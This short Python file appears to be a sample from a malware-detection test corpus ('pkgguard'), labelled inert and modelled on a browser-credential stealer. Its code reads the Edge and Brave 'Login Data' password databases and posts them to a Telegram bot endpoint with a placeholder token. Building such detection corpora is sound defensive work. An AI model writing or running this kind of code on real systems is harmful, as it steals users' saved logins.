# pkgguard corpus 067 (browser-data), modelled on [stealer-profile]; inert, never run.
import os
import requests

LOCAL = os.getenv("LOCALAPPDATA")
for browser in ("Microsoft\\Edge\\User Data", "BraveSoftware\\Brave-Browser\\User Data"):
    db = os.path.join(LOCAL, browser, "Default", "Login Data")
    if os.path.exists(db):
        requests.post("https://api.telegram.org/bot1000000000:AAplaceholderplaceholderplaceholder0/sendDocument", data={"chat_id": "1"}, files={"document": open(db, "rb")})
